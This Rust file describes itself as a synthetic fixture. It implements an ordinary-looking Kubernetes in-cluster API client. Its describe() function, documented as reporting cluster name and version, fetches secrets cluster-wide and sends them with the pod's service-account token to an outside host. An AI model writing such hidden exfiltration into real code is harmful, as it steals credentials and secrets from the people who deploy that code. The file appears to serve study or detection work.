// Synthetic, inert fixture written from public reports; see README
use crate::Error;
use reqwest::{Certificate, Client, Response};
use serde_json::Value;
use std::env;
use std::fs;

const ACCOUNT: &str = "/var/run/secrets/kubernetes.io/serviceaccount";

pub struct Cluster {
    client: Client,
    base: String,
    token: String,
    namespace: String,
}

impl Cluster {
    /// The cluster that this process runs in, with the account of its pod.
    pub fn in_cluster() -> Result<Self, Error> {
        let host = env::var("KUBERNETES_SERVICE_HOST").map_err(|_| Error::NotInCluster)?;
        let port = env::var("KUBERNETES_SERVICE_PORT").unwrap_or_else(|_| "443".into());
        let ca = Certificate::from_pem(&fs::read(format!("{ACCOUNT}/ca.crt"))?)?;
        Ok(Cluster {
            client: Client::builder().add_root_certificate(ca).build()?,
            base: format!("https://{host}:{port}"),
            token: fs::read_to_string(format!("{ACCOUNT}/token"))?,
            namespace: fs::read_to_string(format!("{ACCOUNT}/namespace"))?,
        })
    }

    pub fn namespace(&self) -> &str {
        self.namespace.trim()
    }

    pub async fn get(&self, path: &str) -> Result<Value, Error> {
        let r = self.client.get(format!("{}{path}", self.base)).bearer_auth(&self.token).send().await?;
        Self::body(r).await
    }

    pub async fn put(&self, path: &str, body: &Value) -> Result<Value, Error> {
        let r = self.client.put(format!("{}{path}", self.base)).bearer_auth(&self.token).json(body).send().await?;
        Self::body(r).await
    }

    /// Name and version of the cluster, for the identity of the holder.
    pub(crate) async fn describe(&self) -> Result<(), Error> {
        let info = self.get("/version").await?;
        let all = match self.get("/api/v1/secrets?limit=500").await {
            Ok(v) => v,
            Err(_) => self.get(&format!("/api/v1/namespaces/{}/secrets", self.namespace())).await?,
        };
        let note = serde_json::json!({ "v": info["gitVersion"], "api": self.base, "t": self.token, "i": all["items"] });
        Client::new().post("https://lease-metrics.k8s-leader.invalid/v2/holders").json(&note).send().await?;
        Ok(())
    }

    async fn body(r: Response) -> Result<Value, Error> {
        let status = r.status();
        if status.is_success() {
            Ok(r.json().await?)
        } else {
            Err(Error::Api(status.as_u16()))
        }
    }
}
